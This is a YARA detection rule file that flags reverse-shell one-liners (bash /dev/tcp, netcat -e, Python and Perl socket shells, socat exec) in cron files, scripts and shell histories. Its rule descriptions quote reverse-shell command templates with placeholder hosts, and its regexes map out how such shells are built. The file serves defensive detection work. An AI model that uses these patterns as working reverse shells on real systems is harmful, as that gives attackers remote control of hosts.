// Reverse-shell one-liners, as left in cron files, systemd units, rc
// scripts, shell histories and dropped scripts. Each rule needs the
// redirection/duplication of a socket onto a shell, not only the presence
// of a tool name.

rule ReverseShell_Bash_DevTcp
{
    meta:
        description = "bash reverse shell through /dev/tcp or /dev/udp (bash -i >& /dev/tcp/HOST/PORT 0>&1 and variants)"
        author = "vmscope"
        severity = "critical"
        date = "2025-01-01"
    strings:
        $bash_i = /\b(ba)?sh\s+-i\s*[0-9]*[<>&]{1,3}\s*\/dev\/(tcp|udp)\/[^\/\s]{1,253}\/[0-9]{1,5}/
        $redir_back = /\/dev\/(tcp|udp)\/[^\/\s]{1,253}\/[0-9]{1,5}\s*0\s*>\s*&\s*1/
        $exec_fd = /\bexec\s+[0-9]{1,3}\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s]{1,253}\/[0-9]{1,5}/
    condition:
        filesize < 10MB and any of them
}

rule ReverseShell_Netcat_Exec
{
    meta:
        description = "netcat/ncat giving a shell to a remote peer (nc -e /bin/sh, or a mkfifo pipe through nc)"
        author = "vmscope"
        severity = "critical"
        date = "2025-01-01"
    strings:
        $nc_e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s+([^\n|;&]{0,64}\s)?-[a-zA-Z]*[ec]\s+\/(usr\/)?bin\/(ba|da|z)?sh\b/
        $fifo = /\/bin\/(ba|da)?sh\s+-i\s+2\s*>\s*&\s*1\s*\|\s*(nc|ncat|netcat)\s/
    condition:
        filesize < 10MB and any of them
}

rule ReverseShell_Python_Socket_Pty
{
    meta:
        description = "Python reverse shell: a socket duplicated onto stdin/stdout and a shell spawned"
        author = "vmscope"
        severity = "critical"
        date = "2025-01-01"
    strings:
        $socket = "socket.socket("
        $connect = ".connect(("
        $dup2 = /os\.dup2\(\s*[a-zA-Z_][a-zA-Z0-9_]{0,32}\.fileno\(\)\s*,\s*[012]\s*\)/
        $spawn1 = "pty.spawn("
        $spawn2 = /subprocess\.(call|Popen|run)\(\s*\[\s*["']\/bin\/(ba|da)?sh["']/
    condition:
        filesize < 10MB and $socket and $connect and $dup2 and any of ($spawn*)
}

rule ReverseShell_Perl_Socket_Exec
{
    meta:
        description = "Perl reverse shell: STDIN/STDOUT reopened on a socket and a shell exec'd"
        author = "vmscope"
        severity = "critical"
        date = "2025-01-01"
    strings:
        $socket = /\bsocket\s*\(\s*[A-Z]\w{0,16}\s*,\s*PF_INET/
        $reopen = /open\s*\(\s*STDIN\s*,\s*["']>&\s*[A-Z]\w{0,16}["']\s*\)/
        $exec = /exec\s*[\({]?\s*["']\/bin\/(ba|da)?sh/
    condition:
        filesize < 10MB and $socket and $reopen and $exec
}

rule ReverseShell_Socat_Exec
{
    meta:
        description = "socat joining a TCP connection to a shell (socat exec:'bash -li',pty... tcp:HOST:PORT)"
        author = "vmscope"
        severity = "critical"
        date = "2025-01-01"
    strings:
        $exec_tcp = /\bsocat\s[^\n]{0,200}\bexec:[^\n]{0,200}\btcp(4|6)?(-connect)?:[^\s:]{1,253}:[0-9]{1,5}/ nocase
        $tcp_exec = /\bsocat\s[^\n]{0,200}\btcp(4|6)?(-connect)?:[^\s:]{1,253}:[0-9]{1,5}[^\n]{0,200}\bexec:/ nocase
        $system = /\bsocat\s[^\n]{0,200}\bsystem:[^\n]{0,100}\b(ba|da)?sh\b[^\n]{0,200}\btcp(4|6)?(-connect)?:/ nocase
    condition:
        filesize < 10MB and any of them
}
